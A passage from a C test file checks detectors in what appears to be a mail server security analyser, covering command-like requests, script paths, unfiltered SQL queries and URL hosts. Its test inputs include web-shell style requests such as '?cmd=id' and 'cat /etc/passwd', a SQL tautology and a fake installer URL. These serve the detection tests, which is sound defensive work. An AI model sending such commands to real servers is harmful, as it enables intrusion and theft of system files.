	is_int(bs_detect_exploit(S("/docs/release-notes.txt"), BS_STR_NULL), 0, "a dotted file name");

	/* command-like requests */
	ok(bs_detect_cmdlike(S("/mail/tmp/.cache.php?cmd=id")), "cmd=id");
	ok(bs_detect_cmdlike(S("/mail/tmp/.cache.php?cmd=ls%20-la")), "cmd=ls -la");
	ok(bs_detect_cmdlike(S("/x.php?c=uname+-a")), "c=uname -a");
	ok(bs_detect_cmdlike(S("/x.php?q=cat%20/etc/passwd")), "value is a command");
	ok(bs_detect_cmdlike(S("/x.php?exec=whatever")), "exec= parameter");
	ok(!bs_detect_cmdlike(S("/mail/showmail.php?Folder=Inbox")), "not: folder");
	ok(!bs_detect_cmdlike(S("/mail/reademail.php?id=12")), "not: id=12");
	ok(!bs_detect_cmdlike(S("/mail/search.php?q=identity")), "not: word starting with id");
	ok(!bs_detect_cmdlike(S("/mail/index.php")), "not: no query");

	/* paths */
	ok(bs_detect_script_path(S("/mail/tmp/.cache.php")), "php script");
	ok(bs_detect_script_path(S("/cgi-bin/x.cgi")), "cgi script");
	ok(!bs_detect_script_path(S("/mail/js/atmail.js")), "not: js");
	ok(bs_detect_script_path(S("/UP/SHELL.PHP")), "upper-case extension");
	ok(bs_detect_script_path(S("/a.b/c.aspx")), "a dot in a directory name, then the extension");
	ok(!bs_detect_script_path(S("/x.php.txt")), "not: .php before the last extension");
	ok(!bs_detect_script_path(S("/cgi/php")), "not: no dot");
	ok(bs_detect_script_path(S(".sh")), "the extension alone");
	ok(!bs_detect_script_path(S("/x.phpx")), "not: a longer extension");
	is_bs(bs_uri_path(S("/mail/a.php?x=1#f")), "/mail/a.php", "path of uri");
	is_bs(bs_uri_path(S("http://host.example/mail/a.php?x=1")), "/mail/a.php", "path of absolute uri");
	is_bs(bs_uri_path(S("/plain")), "/plain", "path without query");

	/* SQL */
	ok(bs_detect_sql_unfiltered(S("SELECT Account FROM Users")), "select without where");
	ok(bs_detect_sql_unfiltered(S("select Account, Email from Abook")), "lower case select without where");
	ok(bs_detect_sql_unfiltered(S("SELECT * FROM Abook WHERE Email LIKE '%@%'")), "where without equality");
	ok(bs_detect_sql_unfiltered(S("SELECT * FROM Users WHERE 1=1")), "where 1=1 is not a filter on a literal... tautology");
	ok(!bs_detect_sql_unfiltered(S("SELECT * FROM Users WHERE Account='alice@example.net'")), "per-user filter");
	ok(!bs_detect_sql_unfiltered(S("SELECT Account, Email FROM Abook WHERE Account = 'bigbook@example.net'")), "per-user filter with spaces");
	ok(!bs_detect_sql_unfiltered(S("SELECT * FROM Users WHERE id=?")), "placeholder filter");
	ok(!bs_detect_sql_unfiltered(S("INSERT INTO Log_SendMail (Account) VALUES ('a@b.c')")), "insert is not a read");
	ok(!bs_detect_sql_unfiltered(S("SELECT NOW()")), "select without from");
	ok(!bs_detect_sql_unfiltered(S("SELECT * FROM Users LIMIT 1")), "limit 1");
	ok(bs_detect_sql_addressbook(S("SELECT Email FROM Abook_old")), "abook table");
	ok(bs_detect_sql_addressbook(S("select * from contacts")), "contacts table");
	ok(!bs_detect_sql_addressbook(S("SELECT Account FROM Users")), "users is not an address book");
	ok(bs_detect_sql_shape(S("SELECT * FROM Users WHERE Account='a@x.org'")) ==
	   bs_detect_sql_shape(S("select *  from users where account = 'bob@y.net'")) ||
	   bs_detect_sql_shape(S("SELECT * FROM Users WHERE Account='a@x.org'")) ==
	   bs_detect_sql_shape(S("SELECT * FROM Users WHERE Account='bob@y.net'")), "same shape, other literal");
	ok(bs_detect_sql_shape(S("SELECT * FROM Users WHERE id=12")) == bs_detect_sql_shape(S("SELECT * FROM Users WHERE id=9999")), "same shape, other number");
	ok(bs_detect_sql_shape(S("SELECT Account FROM Users")) != bs_detect_sql_shape(S("SELECT Email FROM Abook")), "other shape");

	/* URL hosts */
	char h[256];
	bs_url_host(S("http://Update.Flash-Player.example.cn/install.exe"), h, sizeof h);
	is_str(h, "update.flash-player.example.cn", "host of http url");
	bs_url_host(S("//cdn.widgets.example.com/a.js"), h, sizeof h);
	is_str(h, "cdn.widgets.example.com", "host of protocol-relative url");
	bs_url_host(S("https://user:pw@h.example:8080/x"), h, sizeof h);
	is_str(h, "h.example", "host with userinfo and port");
	is_int(bs_url_host(S("/mail/js/atmail.js"), h, sizeof h), 0, "relative url has no host");
	/* empty borrowed strings ({NULL, 0}) are "" to every classifier */
	is_int(bs_detect_exploit(BS_STR_NULL, BS_STR_NULL), 0, "null uri: no exploit");
	ok(!bs_detect_cmdlike(BS_STR_NULL), "null uri: not command-like");
	ok(!bs_detect_script_path(BS_STR_NULL), "null path: not a script");
	is_int(bs_uri_path(BS_STR_NULL).n, 0, "null uri: empty path");
	ok(!bs_detect_sql_unfiltered(BS_STR_NULL) && !bs_detect_sql_addressbook(BS_STR_NULL), "null sql");
	is_int(bs_url_host(BS_STR_NULL, h, sizeof h), 0, "null url: no host");
	test_classifiers_as_before();
	test_sql_as_before();
	return tap_done();
}
